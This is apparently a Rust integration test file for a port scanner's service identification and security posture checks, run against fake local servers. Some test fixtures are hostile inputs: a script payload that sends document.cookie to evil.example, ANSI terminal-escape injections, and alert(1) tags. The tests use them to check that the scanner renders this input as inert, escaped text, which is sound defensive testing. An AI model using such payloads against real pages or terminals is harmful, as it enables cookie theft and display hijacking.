//! Service identification and posture against real servers on 127.0.0.1:
//! small servers written here (an SSH-like banner, HTTP with and without
//! redirects, Redis, MySQL, PostgreSQL, Memcached and FTP look-alikes, and
//! hostile ones: silent, 10 MB banner, binary junk, ANSI escapes, HTML),
//! and openssl s_server for TLS versions and suites.
//!
//! The servers listen on ephemeral ports, so no port number hints at the
//! service: every test also exercises the fall-through from probe to probe.

use std::future::Future;
use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use portcullis_model::report::ScanReport;
use portcullis_model::scan::{Protocol, ScanEvent};
use portcullis_model::service::{Confidence, OpenAccessKind, ServiceReport};
use portcullis_scanner::identify::{IdentifyOptions, IdentifyTarget, identify_one, identify_ports};
use portcullis_scanner::{PortSpec, Profile, ScanRequest, Target, TcpMethod};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio_util::sync::CancellationToken;

const LOOPBACK: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);

/// Starts a server on an ephemeral port; `conversation` runs for each
/// connection.
async fn serve<F, Fut>(conversation: F) -> u16
where
    F: Fn(TcpStream) -> Fut + Send + Sync + 'static,
    Fut: Future<Output = ()> + Send + 'static,
{
    let listener = TcpListener::bind((LOOPBACK, 0)).await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let conversation = Arc::new(conversation);
    tokio::spawn(async move {
        while let Ok((socket, _)) = listener.accept().await {
            tokio::spawn(conversation(socket));
        }
    });
    port
}

/// Serves a fixed greeting, then holds the connection until the client
/// leaves.
async fn greeting(bytes: &'static [u8]) -> u16 {
    serve(move |mut socket| async move {
        let _ = socket.write_all(bytes).await;
        let mut sink = [0u8; 1024];
        while matches!(socket.read(&mut sink).await, Ok(n) if n > 0) {}
    })
    .await
}

fn target(port: u16) -> IdentifyTarget {
    IdentifyTarget {
        address: LOOPBACK,
        host_name: None,
        port,
        protocol: Protocol::Tcp,
        rtt: Some(Duration::from_micros(100)),
    }
}

fn with_posture() -> IdentifyOptions {
    IdentifyOptions {
        posture: true,
        ..IdentifyOptions::default()
    }
}

/// Identifies `port`, printing how long it took (speed is for benches;
/// tests only show it).
async fn identify(name: &str, port: u16, options: &IdentifyOptions) -> ServiceReport {
    let started = Instant::now();
    let report = identify_one(&target(port), options).await;
    println!(
        "{name}: {:?} in {:.3} s (tried {:?})",
        report.identity.service,
        started.elapsed().as_secs_f64(),
        report.identity.probes_tried
    );
    report
}

fn assert_printable(text: &str) {
    assert!(
        text.bytes().all(|b| (0x20..0x7f).contains(&b)),
        "not sanitised: {text:?}"
    );
}

/// Reads one CRLF-terminated line (or whatever arrives first).
async fn read_line(socket: &mut TcpStream) -> Option<String> {
    let mut line = Vec::new();
    let mut byte = [0u8; 1];
    while line.len() < 4096 {
        match socket.read(&mut byte).await {
            Ok(1) => {
                line.push(byte[0]);
                if byte[0] == b'\n' {
                    break;
                }
            }
            _ => return (!line.is_empty()).then(|| String::from_utf8_lossy(&line).into_owned()),
        }
    }
    Some(String::from_utf8_lossy(&line).into_owned())
}

// ------------------------------------------------------------------ SSH

/// An SSH server's first words: banner, then (after the client's banner)
/// a KEXINIT offering some weak algorithms.
fn kexinit_packet() -> Vec<u8> {
    let lists: [&[u8]; 10] = [
        b"curve25519-sha256,diffie-hellman-group1-sha1",
        b"ssh-ed25519,ssh-dss",
        b"aes128-ctr,3des-cbc",
        b"aes128-ctr,3des-cbc",
        b"hmac-sha2-256,hmac-md5",
        b"hmac-sha2-256,hmac-md5",
        b"none",
        b"none",
        b"",
        b"",
    ];
    let mut payload = vec![20u8];
    payload.extend_from_slice(&[0x42; 16]);
    for list in lists {
        payload.extend_from_slice(&(list.len() as u32).to_be_bytes());
        payload.extend_from_slice(list);
    }
    payload.extend_from_slice(&[0, 0, 0, 0, 0]);
    let padding = 4 + (8 - (payload.len() + 5 + 4) % 8) % 8;
    let mut packet = ((payload.len() + padding + 1) as u32)
        .to_be_bytes()
        .to_vec();
    packet.push(padding as u8);
    packet.extend_from_slice(&payload);
    packet.extend(std::iter::repeat_n(0u8, padding));
    packet
}

#[tokio::test]
async fn ssh_banner_and_kexinit_with_weak_algorithms() {
    let port = serve(|mut socket| async move {
        let _ = socket
            .write_all(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
            .await;
        if read_line(&mut socket).await.is_some() {
            let _ = socket.write_all(&kexinit_packet()).await;
        }
        // Then hang up: not a real SSH server.
    })
    .await;
    let report = identify("ssh-like", port, &with_posture()).await;
    let identity = &report.identity;
    assert_eq!(identity.service, "ssh");
    assert_eq!(identity.product.as_deref(), Some("OpenSSH"));
    assert_eq!(identity.version.as_deref(), Some("9.2p1"));
    assert_eq!(identity.confidence, Confidence::Product);
    assert_eq!(identity.probes_tried, ["banner"]);
    assert!(identity.evidence.starts_with("SSH-2.0-OpenSSH_9.2p1"));

    let ssh = report.posture.ssh.expect("SSH posture");
    assert_eq!(ssh.banner, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3");
    assert_eq!(ssh.kex, ["curve25519-sha256", "diffie-hellman-group1-sha1"]);
    let weak: Vec<&str> = ssh.weak.iter().map(|w| w.name.as_str()).collect();
    assert_eq!(
        weak,
        [
            "diffie-hellman-group1-sha1",
            "ssh-dss",
            "3des-cbc",
            "hmac-md5"
        ]
    );
    assert!(ssh.auth_methods.is_empty(), "no real SSH behind the banner");
    assert_eq!(ssh.password_login, None);
    let ids: Vec<&str> = report
        .posture
        .advisories
        .iter()
        .map(|a| a.id.as_str())
        .collect();
    assert!(ids.contains(&"CVE-2024-6387"), "{ids:?}");
}

// ----------------------------------------------------------------- HTTP

/// A tiny HTTP server: `route` maps a request path to a whole response.
async fn http_server(route: fn(&str) -> String) -> u16 {
    serve(move |mut socket| async move {
        let mut request = Vec::new();
        let mut chunk = [0u8; 1024];
        while !request.windows(4).any(|w| w == b"\r\n\r\n") && request.len() < 16 * 1024 {
            match socket.read(&mut chunk).await {
                Ok(n) if n > 0 => request.extend_from_slice(&chunk[..n]),
                _ => return,
            }
        }
        let text = String::from_utf8_lossy(&request);
        let path = text.split_whitespace().nth(1).unwrap_or("/").to_owned();
        let _ = socket.write_all(route(&path).as_bytes()).await;
        let _ = socket.shutdown().await;
    })
    .await
}

fn response(status: &str, headers: &str, body: &str) -> String {
    format!(
        "HTTP/1.1 {status}\r\nServer: nginx/1.22.1\r\n{headers}Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
}

#[tokio::test]
async fn http_that_redirects_to_https() {
    let port = http_server(|path| match path {
        "/" => response(
            "301 Moved Permanently",
            "Location: https://shop.example/\r\n",
            "",
        ),
        _ => response("404 Not Found", "", "<title>404</title>"),
    })
    .await;
    let report = identify("http-redirect", port, &with_posture()).await;
    assert_eq!(report.identity.service, "http");
    assert_eq!(report.identity.product.as_deref(), Some("nginx"));
    assert_eq!(report.identity.version.as_deref(), Some("1.22.1"));
    let http = report.posture.http.expect("HTTP posture");
    assert_eq!(http.status, Some(301));
    assert_eq!(http.redirects_to_https, Some(true));
    assert_eq!(http.location.as_deref(), Some("https://shop.example/"));
    assert_eq!(http.hsts, None, "plain HTTP: HSTS does not apply");
    assert!(http.exposed_pages.is_empty(), "{:?}", http.exposed_pages);
}

#[tokio::test]
async fn http_without_redirect_with_listing_and_admin_panel() {
    let port = http_server(|path| match path {
        "/" => response(
            "200 OK",
            "X-Powered-By: PHP/7.4.33\r\n",
            "<html><head><title>Index of /</title></head><body><h1>Index of /</h1></body></html>",
        ),
        "/phpmyadmin/" => response("200 OK", "", "<title>phpMyAdmin</title>"),
        // A catch-all: 200 for anything, which must not count as a panel.
        _ => response("200 OK", "", "<title>Shop</title>"),
    })
    .await;
    let report = identify("http-listing", port, &with_posture()).await;
    let http = report.posture.http.expect("HTTP posture");
    assert_eq!(http.redirects_to_https, Some(false));
    assert!(http.directory_listing);
    assert_eq!(http.exposed_pages, ["/phpmyadmin/ (phpMyAdmin)"]);
    assert_eq!(http.powered_by.as_deref(), Some("PHP/7.4.33"));
    let php_eol = report
        .posture
        .advisories
        .iter()
        .any(|a| a.product == "PHP" && a.id == "EOL");
    assert!(php_eol, "{:?}", report.posture.advisories);
}

// -------------------------------------------------------------- Hostile

#[tokio::test]
async fn a_silent_port_is_open_unknown_with_what_was_tried() {
    let port = serve(|mut socket| async move {
        let mut sink = [0u8; 1024];
        while matches!(socket.read(&mut sink).await, Ok(n) if n > 0) {}
    })
    .await;
    let report = identify("silent", port, &IdentifyOptions::default()).await;
    let identity = &report.identity;
    assert_eq!(identity.confidence, Confidence::PortOnly);
    assert_eq!(identity.product, None);
    assert_eq!(identity.evidence, "");
    assert_eq!(identity.probes_tried[0], "banner");
    assert!(identity.probes_tried.contains(&"http-get".to_owned()));
    assert!(identity.probes_tried.contains(&"tls-hello".to_owned()));
    assert!(report.posture.is_empty());
}

#[tokio::test]
async fn a_ten_megabyte_banner_leaves_bounded_evidence() {
    let port = serve(|mut socket| async move {
        let block = vec![b'A'; 1024 * 1024];
        for _ in 0..10 {
            if socket.write_all(&block).await.is_err() {
                return;
            }
        }
    })
    .await;
    let report = identify("10 MB banner", port, &with_posture()).await;
    let identity = &report.identity;
    assert_eq!(identity.confidence, Confidence::PortOnly);
    assert!(
        identity.evidence.len() <= 2048,
        "{}",
        identity.evidence.len()
    );
    assert!(identity.evidence.starts_with("AAAA"));
    assert!(identity.evidence.ends_with("[truncated]"));
}

#[tokio::test]
async fn binary_junk_is_escaped() {
    let port = greeting(b"\x00\x01\x02\xfe\xff\x80binary\x7f\r\n").await;
    let report = identify("binary junk", port, &IdentifyOptions::default()).await;
    let evidence = &report.identity.evidence;
    assert_printable(evidence);
    assert!(
        evidence.starts_with("\\x00\\x01\\x02\\xfe\\xff\\x80binary\\x7f"),
        "{evidence}"
    );
    assert_eq!(report.identity.confidence, Confidence::PortOnly);
}

#[tokio::test]
async fn ansi_escape_sequences_never_reach_the_output() {
    let port = greeting(b"\x1b[2J\x1b[H\x1b]0;owned\x07\x1b[31mred alert\x1b[0m\r\n").await;
    let report = identify("ansi", port, &IdentifyOptions::default()).await;
    let evidence = &report.identity.evidence;
    assert_printable(evidence);
    assert!(
        evidence.starts_with("\\x1b[2J\\x1b[H\\x1b]0;owned\\x07"),
        "{evidence}"
    );
}

#[tokio::test]
async fn html_and_javascript_are_kept_as_inert_text_without_tags() {
    let port = greeting(b"<html><script>document.location='http://evil.example/'+document.cookie</script><img src=x onerror=alert(1)>\r\n").await;
    let report = identify("html", port, &IdentifyOptions::default()).await;
    let evidence = &report.identity.evidence;
    assert_printable(evidence);
    assert!(
        evidence.starts_with("\\x3chtml\\x3e\\x3cscript\\x3edocument.location="),
        "{evidence}"
    );
    assert!(evidence.ends_with("\\x0d\\x0a"));
}

// ------------------------------------------------- Databases and caches

#[tokio::test]
async fn redis_without_a_password_is_open_access() {
    let port = serve(|mut socket| async move {
        while let Some(line) = read_line(&mut socket).await {
            let reply = match line.trim() {
                "PING" => "+PONG\r\n".to_owned(),
                "INFO server" => {
                    let body = "# Server\r\nredis_version:7.2.4\r\nredis_mode:standalone\r\n";
                    format!("${}\r\n{body}\r\n", body.len())
                }
                // Redis drops connections that look like HTTP.
                other if other.starts_with("GET ") => return,
                _ => "-ERR unknown command\r\n".to_owned(),
            };
            let _ = socket.write_all(reply.as_bytes()).await;
        }
    })
    .await;
    let report = identify("redis-like", port, &with_posture()).await;
    assert_eq!(report.identity.service, "redis");
    assert_eq!(report.identity.product.as_deref(), Some("Redis"));
    assert_eq!(report.identity.version.as_deref(), Some("7.2.4"));
    let kinds: Vec<OpenAccessKind> = report.posture.open_access.iter().map(|o| o.kind).collect();
    assert_eq!(kinds, [OpenAccessKind::RedisNoAuth]);
}

#[tokio::test]
async fn mariadb_greeting() {
    let mut payload = vec![10u8];
    payload.extend_from_slice(b"5.5.5-10.11.6-MariaDB-0+deb12u1\0");
    payload.extend_from_slice(&[9, 0, 0, 0]);
    payload.extend_from_slice(b"abcdefgh\0");
    payload.extend_from_slice(&[0xfe, 0xf7, 8, 2, 0, 0xff, 0x81, 21]);
    payload.extend_from_slice(&[0; 10]);
    payload.extend_from_slice(b"ijklmnopqrst\0mysql_native_password\0");
    let mut packet = (payload.len() as u32).to_le_bytes()[..3].to_vec();
    packet.push(0);
    packet.extend_from_slice(&payload);
    let packet: &'static [u8] = Box::leak(packet.into_boxed_slice());
    let port = greeting(packet).await;
    let report = identify("mariadb-like", port, &with_posture()).await;
    assert_eq!(report.identity.service, "mysql");
    assert_eq!(report.identity.product.as_deref(), Some("MariaDB"));
    assert_eq!(report.identity.version.as_deref(), Some("10.11.6"));
    assert!(report.posture.advisories.is_empty(), "10.11 is supported");
}

#[tokio::test]
async fn postgresql_says_no_to_ssl_then_refuses_the_user() {
    let port = serve(|mut socket| async move {
        loop {
            let mut header = [0u8; 8];
            if socket.read_exact(&mut header).await.is_err() {
                return;
            }
            let length = u32::from_be_bytes(header[..4].try_into().unwrap()) as usize;
            let code = u32::from_be_bytes(header[4..].try_into().unwrap());
            if code == 80_877_103 {
                let _ = socket.write_all(b"N").await;
                continue;
            }
            if code != 196_608 || !(8..10_000).contains(&length) {
                return;
            }
            let mut rest = vec![0u8; length - 8];
            let _ = socket.read_exact(&mut rest).await;
            let fields = b"SFATAL\0VFATAL\0C28000\0Mno pg_hba.conf entry for host \"127.0.0.1\", user \"portcullis\"\0Fauth.c\0L543\0RClientAuthentication\0\0";
            let mut message = vec![b'E'];
            message.extend_from_slice(&((fields.len() + 4) as u32).to_be_bytes());
            message.extend_from_slice(fields);
            let _ = socket.write_all(&message).await;
            return;
        }
    })
    .await;
    let report = identify("postgresql-like", port, &IdentifyOptions::default()).await;
    assert_eq!(report.identity.service, "postgresql");
    assert_eq!(report.identity.product.as_deref(), Some("PostgreSQL"));
    assert_eq!(report.identity.version, None);
    let extra = report.identity.extra.unwrap();
    assert!(extra.contains("FATAL 28000"), "{extra}");
    assert!(extra.contains("version not disclosed"), "{extra}");
    assert!(extra.contains("SSL not offered"), "{extra}");
}

#[tokio::test]
async fn memcached_stats_without_authentication() {
    let port = serve(|mut socket| async move {
        while let Some(line) = read_line(&mut socket).await {
            let reply: &[u8] = match line.trim() {
                "version" => b"VERSION 1.6.21\r\n",
                "stats" => b"STAT pid 7\r\nSTAT uptime 42\r\nSTAT curr_items 3\r\nEND\r\n",
                _ => b"ERROR\r\n",
            };
            let _ = socket.write_all(reply).await;
        }
    })
    .await;
    let report = identify("memcached-like", port, &with_posture()).await;
    assert_eq!(report.identity.service, "memcache");
    assert_eq!(report.identity.version.as_deref(), Some("1.6.21"));
    let open = &report.posture.open_access;
    assert_eq!(open.len(), 1);
    assert_eq!(open[0].kind, OpenAccessKind::MemcachedNoAuth);
    assert!(
        open[0].detail.contains("curr_items 3"),
        "{}",
        open[0].detail
    );
}

// ------------------------------------------------------------------ FTP

async fn ftp_server(anonymous_allowed: bool) -> u16 {
    serve(move |mut socket| async move {
        let _ = socket.write_all(b"220 (vsFTPd 3.0.3)\r\n").await;
        while let Some(line) = read_line(&mut socket).await {
            let reply: &[u8] = match line.split_whitespace().next().unwrap_or("") {
                "USER" => b"331 Please specify the password.\r\n",
                "PASS" if anonymous_allowed => b"230 Login successful.\r\n",
                "PASS" => b"530 Login incorrect.\r\n",
                "QUIT" => b"221 Goodbye.\r\n",
                _ => b"500 Unknown command.\r\n",
            };
            let _ = socket.write_all(reply).await;
        }
    })
    .await
}

#[tokio::test]
async fn ftp_anonymous_login_fires_only_when_allowed() {
    let open = identify("ftp-anonymous", ftp_server(true).await, &with_posture()).await;
    assert_eq!(open.identity.product.as_deref(), Some("vsftpd"));
    assert_eq!(open.identity.version.as_deref(), Some("3.0.3"));
    let kinds: Vec<OpenAccessKind> = open.posture.open_access.iter().map(|o| o.kind).collect();
    assert_eq!(kinds, [OpenAccessKind::FtpAnonymous]);

    let closed = identify("ftp-closed", ftp_server(false).await, &with_posture()).await;
    assert_eq!(closed.identity.product.as_deref(), Some("vsftpd"));
    assert!(closed.posture.open_access.is_empty());
}

// --------------------------------------------------------- Concurrency

#[tokio::test]
async fn connections_are_bounded_and_cancellation_ends_the_stream() {
    let active = Arc::new(AtomicUsize::new(0));
    let peak = Arc::new(AtomicUsize::new(0));
    let mut ports = Vec::new();
    for _ in 0..6 {
        let (active, peak) = (active.clone(), peak.clone());
        ports.push(
            serve(move |mut socket| {
                let (active, peak) = (active.clone(), peak.clone());
                async move {
                    // The client closes a connection at its port budget and
                    // opens the next at once; the task that would see the
                    // first one's end may run after this one starts. Counted
                    // a moment late (the client holds each connection 1.5 s),
                    // a connection the client already closed is not counted
                    // with the new one: a loaded machine measured 4 without it.
                    tokio::time::sleep(Duration::from_millis(100)).await;
                    let now = active.fetch_add(1, Ordering::SeqCst) + 1;
                    peak.fetch_max(now, Ordering::SeqCst);
                    let mut sink = [0u8; 1024];
                    while matches!(socket.read(&mut sink).await, Ok(n) if n > 0) {}
                    active.fetch_sub(1, Ordering::SeqCst);
                }
            })
            .await,
        );
    }
    let options = IdentifyOptions {
        max_connections: 2,
        port_budget: Duration::from_millis(1500),
        ..IdentifyOptions::default()
    };
    let targets: Vec<IdentifyTarget> = ports.iter().map(|p| target(*p)).collect();
    let mut reports = identify_ports(targets.clone(), options.clone(), CancellationToken::new());
    let mut count = 0;
    while let Some(report) = reports.recv().await {
        assert_eq!(report.identity.confidence, Confidence::PortOnly);
        count += 1;
    }
    assert_eq!(count, 6);
    assert!(
        peak.load(Ordering::SeqCst) <= 2,
        "peak {}",
        peak.load(Ordering::SeqCst)
    );

    // Cancelled at once: the stream ends without the silent ports' reports.
    let cancel = CancellationToken::new();
    let mut reports = identify_ports(targets, options, cancel.clone());
    cancel.cancel();
    let mut after_cancel = 0;
    while reports.recv().await.is_some() {
        after_cancel += 1;
    }
    assert_eq!(after_cancel, 0);
}

// ----------------------------------------------------------- The engine

#[tokio::test]
async fn a_scan_with_identification_streams_service_events() {
    let ssh = greeting(b"SSH-2.0-OpenSSH_9.6\r\n").await;
    let http = http_server(|_| response("200 OK", "", "<title>ok</title>")).await;
    let request = ScanRequest {
        targets: vec![Target {
            address: LOOPBACK,
            name: None,
        }],
        ports: PortSpec::parse(&format!("{ssh},{http}")).unwrap(),
        tcp: Some(TcpMethod::Connect),
        udp: false,
        timing: Profile::Normal.timing(),
        discover: false,
        list_every_port: true,
        identify: Some(IdentifyOptions::default()),
    };
    let mut handle = portcullis_scanner::start(request).unwrap();
    let mut events = Vec::new();
    while let Some(event) = handle.events.recv().await {
        events.push(event);
    }
    assert!(matches!(events.last(), Some(ScanEvent::Finished(s)) if !s.partial));
    let services = events
        .iter()
        .filter(|e| matches!(e, ScanEvent::Service(_)))
        .count();
    assert_eq!(services, 2);
    let report = ScanReport::from_events(events);
    let host = report.host(LOOPBACK).unwrap();
    let named: Vec<(u16, &str)> = host
        .ports
        .iter()
        .map(|p| (p.port, p.identity.as_ref().unwrap().service.as_str()))
        .collect();
    assert!(named.contains(&(ssh, "ssh")), "{named:?}");
    assert!(named.contains(&(http, "http")), "{named:?}");
    assert!(
        host.ports.iter().all(|p| p.posture.is_none()),
        "posture not asked"
    );
}

#[tokio::test]
async fn hostile_http_headers_are_escaped_once() {
    let port = http_server(|_| {
        let body = "<title>\x1b]0;owned\x07<script>alert(1)</script></title>";
        format!(
            "HTTP/1.1 200 OK\r\nServer: \x1b[2J\x1b[31mEvilServer/6.6.6\x1b[0m\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    })
    .await;
    let report = identify("hostile http", port, &with_posture()).await;
    let identity = &report.identity;
    assert_eq!(identity.service, "http");
    assert_eq!(
        identity.product.as_deref(),
        Some("\\x1b[2J\\x1b[31mEvilServer")
    );
    assert_eq!(identity.version.as_deref(), Some("6.6.6"));
    let http = report.posture.http.unwrap();
    assert_eq!(
        http.title.as_deref(),
        Some("\\x1b]0;owned\\x07\\x3cscript\\x3ealert(1)\\x3c/script\\x3e")
    );
    assert_eq!(
        http.server.as_deref(),
        Some("\\x1b[2J\\x1b[31mEvilServer/6.6.6\\x1b[0m")
    );
    for text in [&identity.evidence, identity.product.as_ref().unwrap()] {
        assert_printable(text);
        assert!(!text.contains("\\x5cx"), "escaped twice: {text}");
    }
}
